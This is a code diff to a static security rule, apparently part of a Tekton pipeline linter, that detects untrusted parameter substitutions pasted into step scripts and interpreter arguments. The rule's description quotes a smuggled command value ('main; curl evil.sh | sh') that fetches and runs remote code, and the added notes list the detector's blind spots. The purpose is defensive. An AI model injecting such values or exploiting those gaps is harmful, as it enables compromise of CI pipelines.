@@ -1,4 +1,4 @@
-import { invocation } from '../../private/argv';
+import { invocation, shellDataIndex } from '../../private/argv';
 import { asArray } from '../../private/containers';
 import { envNameFor, untrustedSubstitutions } from '../../private/substitutions';
 import { Severity } from '../rule';
@@ -24,6 +24,27 @@ export const SCRIPT_INJECTION = containerRule(
       'Tekton pastes a substitution into the script or argument text before the program parses it, so a param value such as '
       + '"main; curl evil.sh | sh" runs as code. Through env it stays data.',
     fix: 'Pass the value through env and quote the variable in the script.',
+    decidesFrom:
+      'Every step, sidecar and stepTemplate of Tasks, TaskRuns, Pipelines and PipelineRuns (`tekton.dev` v1 or v1beta1, or '
+      + 'no apiVersion; embedded `taskSpec`s and `pipelineSpec`s followed 8 levels deep), and of every StepAction: the '
+      + "`script` as written, and, when the `command` (the stepTemplate's if the step has none) runs an interpreter or "
+      + 'command runner, every later argument of `command` and `args`. The program is found through wrappers (`env`, '
+      + '`timeout`, `nice`, `tini` ...) and recognised by its base name (shells, busybox, python, node, perl, ruby, php, awk, '
+      + 'sed, jq, yq, ssh, xargs, find, su, sudo, make, kubectl, helm, docker ...). A Tekton substitution whose value can '
+      + 'come from outside the task (params, results of tasks and steps, context values, workspace claims and volumes) is a '
+      + 'finding there; only the paths Tekton fixes from the task itself (`$(workspaces.<w>.path)`, `$(results.<r>.path)`, '
+      + '`$(step.results.<r>.path)`, `$(steps.<s>.exitCode.path)`, `$(credentials.path)`) are inert.',
+    limits:
+      'Only listed program names count as interpreters: a renamed binary, a tool that runs one of its option values as a '
+      + "command (`git --upload-pack=...`), or an interpreter that the image's entrypoint starts (no `command`) is not "
+      + 'recognised; ARGUMENT_INJECTION covers the last case. A substitution is refused wherever it sits in a script, a '
+      + 'comment or quoted heredoc included, while env values are not inspected: what the script then does with the variable '
+      + '(`eval "$VAR"`) is not seen. Only the first substitution of each place is reported. Pods, Deployments and other '
+      + 'workloads are not read, nor the init containers Tekton adds to the pod itself; a Task named by a resolver, bundle or '
+      + 'hub reference is judged only when it is given as an object.',
+    howToRelax:
+      'Cannot be relaxed: no prop, `Relaxations.of(...)` or annotation waives it. Pass the value through env (`env: [{ '
+      + 'name: \'URL\', value: \'$(params.url)\' }]`) and use `"$URL"`, quoted, in the script.',
     relaxable: false,
   },
   (view) => {
@@ -35,8 +56,11 @@ export const SCRIPT_INJECTION = containerRule(
     // without a command the image's entrypoint runs: ARGUMENT_INJECTION judges its args
     const run = command.length > 0 ? invocation([...command, ...args]) : { programIndex: -1, interpreter: false, program: undefined };
     if (run.interpreter) {
-      [...command, ...args].forEach((text, i) => {
-        if (i > run.programIndex) places.push({ property: i < command.length ? 'command' : 'args', text });
+      // after `sh -c CODE`, NAME and the ARGs are $0, $1 ...: data the shell never parses
+      const argv = [...command, ...args];
+      const data = shellDataIndex(argv, run) ?? argv.length;
+      argv.forEach((text, i) => {
+        if (i > run.programIndex && i < data) places.push({ property: i < command.length ? 'command' : 'args', text });
       });
     }
     return places.flatMap(({ property, text }) => untrustedSubstitutions(text).slice(0, 1).map((found) => {
